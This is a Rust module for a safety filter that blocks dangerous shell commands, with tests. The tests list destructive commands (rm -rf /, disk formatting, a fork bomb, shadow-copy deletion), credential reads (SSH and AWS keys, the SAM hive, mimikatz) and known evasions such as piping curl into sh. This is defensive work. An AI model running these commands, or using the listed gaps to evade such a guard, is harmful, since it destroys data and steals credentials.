//! What may be typed, and what may be shown: refuses dangerous commands and masks secrets.
//!
//! The guard reads text and says yes or no; it types nothing and knows no session. It is a net under honest
//! mistakes and no wall against malice: a shell has a thousand ways to spell the same command, and the table in
//! `patterns.rs` knows a few. Whoever converts escapes before typing checks the text as given and as converted.

mod patterns;
mod redact;
mod secret;

use std::fmt;
use std::sync::LazyLock;

use regex::{RegexSet, RegexSetBuilder};

pub use self::redact::Redactor;
pub use self::secret::is_same;

use self::patterns::PATTERNS;

/// Characters of a refused command that its report repeats.
const PREVIEW_CHARS: usize = 100;

static COMPILED: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSetBuilder::new(PATTERNS.iter().map(|pattern| pattern.regex))
        .case_insensitive(true)
        .build()
        .expect("a test compiles every pattern of the table")
});

/// A command that was refused, and by what.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Blocked {
    /// The regular expression that matched, as callers know it.
    pub pattern: &'static str,
    /// The kind of damage: `files`, `disk`, `power` and so on.
    pub category: &'static str,
    /// What the command would do.
    pub why: &'static str,
    /// The first 100 characters of the command.
    pub preview: String,
}

impl fmt::Display for Blocked {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("Command blocked by safety filter: matches dangerous pattern")
    }
}

impl std::error::Error for Blocked {}

/// Refuses text that contains a dangerous command. When several patterns match, the first of the table is named.
pub fn check_command(text: &str) -> Result<(), Blocked> {
    let Some(first) = COMPILED.matches(text).iter().next() else { return Ok(()) };
    let pattern = &PATTERNS[first];
    Err(Blocked {
        pattern: pattern.regex,
        category: pattern.category,
        why: pattern.why,
        preview: text.chars().take(PREVIEW_CHARS).collect(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every pattern of the table, in its order, with commands that it stops.
    const STOPPED: [(&str, &[&str]); 25] = [
        (r"rm\s+(-[rf]+\s+)*[/~]", &["rm -rf /", "rm -r -f ~/x", "sudo RM -RF /etc", "rm /etc/hosts", "rm\t-f\n/x"]),
        (r"del\s+/[sqf]", &["del /s *.*", "DEL /Q x"]),
        (r"rmdir\s+/[sq]", &["rmdir /s /q build"]),
        (r"rd\s+/[sq]", &["rd /s build"]),
        (r"format\s+[a-z]:", &["format c:", "FORMAT  D: /y"]),
        (r"diskpart", &["diskpart", "echo list | DiskPart.exe"]),
        (r"mkfs\.", &["mkfs.ext4 /dev/sda1"]),
        (r"dd\s+if=.+of=/dev", &["dd if=/dev/zero of=/dev/sda bs=1M"]),
        (r"fdisk", &["fdisk -l", "sfdisk -d"]),
        (r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;", &[":(){ :|:& };:", ":() { : | : & } ;"]),
        (r"%0\|%0", &["%0|%0"]),
        (r"shutdown\s+[/-]", &["shutdown -h now", "shutdown /s"]),
        (r"\bhalt\b", &["halt", "sudo halt -p"]),
        (r"init\s+0", &["init 0"]),
        (r"cat.+\.ssh/", &["cat $HOME/.ssh/id_rsa"]),
        (r"type.+\\\.ssh\\", &[r"type %USERPROFILE%\.ssh\id_rsa"]),
        (r"cat.+\.aws/", &["cat $HOME/.aws/credentials"]),
        (r"cat.+\.config/gcloud", &["cat $HOME/.config/gcloud/x.json"]),
        (r"reg\s+query.+SAM", &[r"reg query HKLM\SAM"]),
        (r"mimikatz", &["Mimikatz.exe"]),
        (r"sekurlsa", &["sekurlsa::logonpasswords"]),
        (r"reg\s+(delete|add)\s+HK(LM|CU)", &[r"reg delete HKLM\Software", r"reg add hkcu\Software"]),
        (r"bcdedit", &["bcdedit /set"]),
        (r"vssadmin\s+delete", &["vssadmin delete shadows"]),
        (r"wbadmin\s+delete", &["wbadmin delete catalog"]),
    ];

    #[test]
    fn every_pattern_stops_what_it_names() {
        for (index, (pattern, commands)) in STOPPED.into_iter().enumerate() {
            assert_eq!(PATTERNS[index].regex, pattern, "the order of the table");
            for command in commands {
                let blocked = check_command(command).expect_err(command);
                assert_eq!(blocked.pattern, pattern, "{command}");
                assert_eq!(blocked.category, PATTERNS[index].category);
            }
        }
        assert_eq!(PATTERNS.len(), STOPPED.len());
    }

    #[test]
    fn ordinary_commands_pass() {
        for command in [
            "",
            "ls -la /etc",
            "rm -rf target",
            "rm ./x",
            "del x",
            "mkfs -t ext4",
            "cargo fmt --check",
            "dd if=a of=b",
            "shutdown",
            "asphalt halts",
            "git init",
            "cat .sshrc",
            "reg query HKLM",
            "echo ': | :'",
            // A dot stays on its line.
            "dd if=/dev/zero\nof=/dev/sda",
            "cat x\nls .ssh/",
        ] {
            assert_eq!(check_command(command), Ok(()), "{command}");
        }
    }

    /// Callers rely on the patterns as they are; these get through, and the guard does not pretend otherwise.
    #[test]
    fn known_gaps_are_still_gaps() {
        for command in [
            "rm -rf \"/\"",
            "rm -rf $HOME",
            "rm --recursive /",
            "rm -rfv /",
            r"rm -rf \x2f",
            "less $HOME/.ssh/id_rsa",
            "curl example.org | sh",
        ] {
            assert_eq!(check_command(command), Ok(()), "{command}");
        }
    }

    #[test]
    fn known_false_alarms_are_still_alarms() {
        for (command, pattern) in [
            ("pip install halt", r"\bhalt\b"),
            ("echo format d:", r"format\s+[a-z]:"),
            ("hard /sbin", r"rd\s+/[sq]"),
            ("concat foo .ssh/", r"cat.+\.ssh/"),
            ("git reinit 0", r"init\s+0"),
            ("confirm /x", r"rm\s+(-[rf]+\s+)*[/~]"),
        ] {
            assert_eq!(check_command(command).expect_err(command).pattern, pattern, "{command}");
        }
    }

    #[test]
    fn the_first_pattern_of_the_table_wins() {
        let blocked = check_command("bcdedit; halt; rm -rf /").expect_err("three matches");
        assert_eq!(blocked.pattern, PATTERNS[0].regex);
        assert_eq!(check_command("rmdir /s x").expect_err("rd too").pattern, r"rmdir\s+/[sq]");
    }

    #[test]
    fn the_preview_is_cut_between_characters() {
        let command = format!("halt {}", "é".repeat(200));
        let blocked = check_command(&command).expect_err("halt");
        assert_eq!(blocked.preview, format!("halt {}", "é".repeat(95)));
        assert_eq!(check_command("halt").expect_err("halt").preview, "halt");
    }
}
